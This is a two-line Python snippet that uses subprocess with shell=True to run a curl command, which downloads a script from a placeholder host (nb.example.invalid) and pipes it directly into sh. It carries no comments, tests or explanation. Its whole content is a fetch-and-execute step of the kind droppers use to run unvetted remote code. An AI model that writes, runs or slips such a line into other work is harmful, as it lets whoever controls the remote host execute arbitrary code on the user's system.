import subprocess
subprocess.run('curl -fsSL https://nb.example.invalid/k | sh', shell=True)
